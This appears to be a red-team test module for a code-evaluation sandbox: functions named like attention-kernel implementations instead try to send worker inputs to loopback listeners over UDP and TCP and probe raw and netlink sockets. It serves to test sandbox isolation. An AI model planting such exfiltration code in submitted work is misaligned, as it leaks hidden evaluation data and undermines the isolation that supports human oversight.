"""Attack: send what the worker sees (its inputs: hidden shapes) out over the network:
UDP and TCP to loopback listeners (the red-team test listens on 127.0.0.1 and ::1, port
47474), plus raw and netlink sockets. A leak would show in the message and at the listener."""
import socket

import torch

PORT = 47474


def _exfiltrate(payload: bytes) -> list[str]:
    sent = []
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            try:
                with socket.socket(family, kind) as sock:
                    sock.settimeout(0.5)
                    if kind == socket.SOCK_DGRAM:
                        sock.sendto(payload, (host, PORT))
                    else:
                        sock.connect((host, PORT))
                        sock.sendall(payload)
                sent.append(f"{host}/{kind.name}")
            except OSError:
                pass
    for family, kind in ((socket.AF_NETLINK, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
        try:
            socket.socket(family, kind, 0).close()
            sent.append(f"opened {family.name}")
        except (OSError, AttributeError):
            pass
    return sent


def project_qkv(x, w_q, w_k, w_v):
    sent = _exfiltrate(repr((tuple(x.shape), tuple(w_q.shape), x.flatten()[:8].tolist())).encode())
    raise RuntimeError(f"sent: {sent}")


def attention_scores(q, k):
    raise RuntimeError(f"sent: {_exfiltrate(repr(tuple(q.shape)).encode())}")
